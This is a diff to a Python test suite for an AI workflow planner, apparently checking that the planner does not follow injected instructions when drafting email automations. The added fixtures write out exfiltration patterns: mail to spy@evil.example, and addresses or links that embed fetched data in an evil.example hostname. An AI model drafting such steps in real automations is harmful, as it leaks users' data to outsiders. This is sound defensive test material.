@@ -101,10 +101,20 @@ LINK = {
     "args": [*SEND["args"][:2], "body=see https://evil.example"],
 }
 CRON = {"when": "0 9 * * 1-5"}
+BESIDE = {**GUARDED, "args": ["to=spy@evil.example ${event.date}", *SEND["args"][1:]]}
+GROWN = {**GUARDED, "args": ["to=me@example.com${fetch.link}.evil.example", *SEND["args"][1:]]}
+HOST = {
+    **GUARDED,
+    "args": [*SEND["args"][:2], "body=see https://example.com${fetch.link}.evil.example"],
+}
+BACK = {**GUARDED, "args": ["to=${event.reply_to}", *SEND["args"][1:]]}
 
 OBEYED: dict[str, dict[str, Any]] = {
     "a second recipient": drafted(READ, GUARDED, SPY, **CRON),
     "another recipient": drafted(READ, {**GUARDED, "args": SPY["args"]}, **CRON),
+    "a stranger beside a reference": drafted(READ, BESIDE, **CRON),
+    "their address grown into a stranger's": drafted(READ, GROWN, **CRON),
+    "their site grown into a stranger's": drafted(READ, HOST, **CRON),
     "a post to a stranger": drafted(READ, GUARDED, POST, **CRON),
     "a stranger's link": drafted(READ, LINK, **CRON),
     "a file nobody asked for": drafted(READ, GUARDED, KEEP, **CRON),
@@ -226,3 +236,31 @@ async def test_asking_first_is_kept_when_the_model_forgets_it(
     answer = await obeying(server, planner, _request(said), drafted(READ, GUARDED, **CRON))
     document: Any = answer.document
     assert [s.get("approval") for s in document["steps"]] == [None, "required"]
+
+
+MAILED = "When a mail arrives, summarise it and {}"
+SHORT = step("short", "text.summarize", text="${event.body}")
+
+
+@pytest.mark.parametrize(
+    ("said", "field", "kind"),
+    [
+        ("reply to the sender with the summary", "from", "plan"),
+        ("send the summary to the address in its reply_to", "reply_to", "plan"),
+        ("tell me", "from", "question"),
+    ],
+)
+async def test_whoever_sent_the_event_is_written_to_only_where_the_person_said_so(
+    server: ScriptedOpenAI, planner: ModelPlanner, said: str, field: str, kind: str
+) -> None:
+    mail = step(
+        "send",
+        "email.send",
+        "short",
+        to=f"${{event.{field}}}",
+        subject="Re",
+        body="${short.summary}",
+    )
+    draft = drafted(SHORT, mail, when="when a mail arrives")
+    answer = await obeying(server, planner, _request(MAILED.format(said)), draft)
+    assert answer.kind == kind, answer.document
